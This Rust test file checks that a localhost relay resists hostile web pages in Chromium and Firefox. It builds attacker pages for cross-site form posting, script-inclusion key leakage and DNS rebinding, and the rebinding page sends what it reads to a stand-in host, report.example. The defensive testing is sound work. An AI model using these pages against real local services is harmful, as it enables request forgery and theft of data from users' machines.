//! What a web page can do to a relay that listens on a port of the machine on which somebody looks at the page: with
//! real browsers, in the three ways that need nobody's leave. Each way is also tried on a server that lets it happen,
//! or a browser that does nothing would pass.
mod browser;
mod page;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};

use crate::programs::{LIMIT, Relay};
use crate::published::{Challenge, Client, Fields, OneUse, form, unhex};
use browser::{Browser, Kind};
use page::{Attacker, REBOUND};

/// One request of a program's: status and body.
fn ask(relay: SocketAddr, method: &str, path: &str, body: &str) -> (u16, String) {
    let mut stream = TcpStream::connect(relay).expect("the relay listens");
    stream
        .set_read_timeout(Some(LIMIT))
        .expect("a limit can be set");
    let request = format!(
        "{method} {path} HTTP/1.1\r\nhost: {relay}\r\nconnection: close\r\n\
         content-type: application/x-www-form-urlencoded\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    stream
        .write_all(request.as_bytes())
        .expect("the relay reads");
    let mut answer = String::new();
    stream
        .read_to_string(&mut answer)
        .expect("the relay answers");
    let (head, body) = answer.split_once("\r\n\r\n").expect("a whole answer");
    let status = head
        .split(' ')
        .nth(1)
        .and_then(|status| status.parse().ok());
    (status.expect("a status"), body.to_owned())
}

/// A relay whose key begins with a letter, as a name in a script does; and its key.
fn relay_with_a_name() -> (Relay, SocketAddr, String) {
    for _ in 0..200 {
        let relay = Relay::start(&[]);
        let address = relay.address().parse().expect("an address with a port");
        let (_, key) = ask(address, "GET", "/get_domain_pk", "");
        if key.starts_with(|first: char| first.is_ascii_alphabetic()) {
            return (relay, address, key);
        }
    }
    panic!("of 200 keys, none begins with a letter");
}

/// A challenge that the attacker has paid for.
struct Paid {
    client: Client,
    challenge: [u8; 76],
    signature: [u8; 64],
    nonce: [u8; 32],
}

impl Paid {
    fn at(relay: SocketAddr) -> Self {
        let client = Client::new();
        let (status, answer) = ask(relay, "POST", "/pow", &form(&client.pow()));
        assert_eq!(status, 200, "{answer}");
        let answer: serde_json::Value = serde_json::from_str(&answer).expect("JSON");
        let field = |name: &str| answer[name].as_str().expect("a string").to_owned();
        let challenge: [u8; 76] = unhex(&field("bytes"));
        Self {
            client,
            challenge,
            signature: unhex(&field("signature")),
            nonce: Challenge::from_bytes(&challenge).solve(),
        }
    }

    /// An exchange with a key of its own each time.
    fn exchange(&self) -> Fields {
        let key = OneUse::new().public();
        self.client
            .exchange(&self.challenge, &self.signature, &self.nonce, &key)
    }
}

/// Posts the same form to both, and reports when both have answered.
fn page_that_posts(fields: &Fields, control: &str, relay: &str) -> String {
    let inputs: String = fields
        .iter()
        .map(|(name, value)| format!("<input name='{name}' value='{value}'>"))
        .collect();
    format!(
        "<iframe name=a></iframe><iframe name=b></iframe>
         <form method=post>{inputs}</form>
         <script>
         const form = document.forms[0];
         const post = async (url, frame) => {{
             form.action = url;
             form.target = frame;
             form.submit();
             // Until there is an answer in it, be it an error, which is for this page to see no more. (Firefox tells of
             // none by an event.)
             while (document.getElementsByName(frame)[0].contentDocument !== null)
                 await new Promise(done => setTimeout(done, 50));
         }};
         onload = async () => {{
             await post('{control}', 'a');
             await post('{relay}', 'b');
             fetch('/report', {{ method: 'POST', body: 'posted ' }});
         }};
         </script>"
    )
}

/// Runs both as scripts, and reports which names have been looked up.
fn page_that_runs(key: &str, control: &str, relay: &str) -> String {
    format!(
        "<script>
         const ran = [];
         for (const name of ['control', '{key}'])
             Object.defineProperty(window, name, {{ get() {{ ran.push(name); }} }});
         const run = url => new Promise(done => {{
             const script = document.createElement('script');
             script.onload = script.onerror = done;
             script.src = url;
             script.referrerPolicy = 'no-referrer';
             document.head.append(script);
         }});
         onload = async () => {{
             await run('{control}');
             await run('{relay}');
             fetch('/report', {{ method: 'POST', body: 'ran ' + ran.join() }});
         }};
         </script>"
    )
}

/// Asks its own origin for what a relay has, once that is one.
const PAGE_THAT_READS: &str = "<script>
    const report = text => fetch('http://report.example/report', { method: 'POST', mode: 'no-cors', body: text });
    const read = async (method, path) => {
        for (;;) {
            let told;
            try {
                const answer = await fetch(path, { method, cache: 'no-store', referrerPolicy: 'no-referrer' });
                told = answer.status + ' ' + await answer.text();
            } catch { told = 'nothing'; }
            if (told !== '200 not yet') return method + ' ' + path + ' ' + told.trim();
            await new Promise(done => setTimeout(done, 100));
        }
    };
    onload = async () => {
        await report('loaded ');
        const told = [];
        for (const [method, path] of [['GET', '/get_domain_pk'], ['GET', '/status'], ['POST', '/pow'], ['GET', '/none']])
            told.push(await read(method, path));
        report('read ' + told.join());
    };
    </script>";

fn a_page_gets_nothing_in(kind: Kind) {
    let (_relay, address, key) = relay_with_a_name();
    let paid = Paid::at(address);
    let attacker = Attacker::new(address);
    let server = attacker.server;
    // Another site than 127.0.0.1, and on this machine as that is.
    let site = format!("http://localhost:{}", server.port());

    let exchange = paid.exchange();
    let relays = format!("http://{address}/exchange_keys");
    let controls = format!("http://{server}/control");
    attacker.serves("/post", page_that_posts(&exchange, &controls, &relays));
    let relays = format!("http://{address}/get_domain_pk");
    let controls = format!("http://{server}/control.js");
    attacker.serves("/control.js", "control".to_owned());
    attacker.serves("/run", page_that_runs(&key, &controls, &relays));
    attacker.serves("/read", PAGE_THAT_READS.to_owned());

    let browser = |page: String| Browser::open(kind, attacker.proxy, &[page]);
    {
        let _browser = browser(format!("{site}/post"));
        assert_eq!(attacker.report("/control "), form(&exchange));
        attacker.report("posted ");
        let (status, answer) = ask(address, "POST", "/exchange_keys", &form(&paid.exchange()));
        assert_eq!(status, 200, "a page has spent the challenge: {answer}");
    }
    {
        let _browser = browser(format!("{site}/run"));
        assert_eq!(attacker.report("ran "), "control", "which names a page saw");
    }
    {
        let _browser = browser(format!("http://{REBOUND}:{}/read", address.port()));
        attacker.report("loaded ");
        attacker.rebind();
        let read = attacker.report("read ");
        let nothing = "GET /get_domain_pk 403,GET /status 403,POST /pow 403,GET /none 403";
        assert_eq!(read, nothing, "what a page read");
    }
}

#[test]
fn a_page_in_chromium_can_neither_spend_nor_run_nor_read() {
    a_page_gets_nothing_in(Kind::Chromium);
}

#[test]
fn a_page_in_firefox_can_neither_spend_nor_run_nor_read() {
    a_page_gets_nothing_in(Kind::Firefox);
}
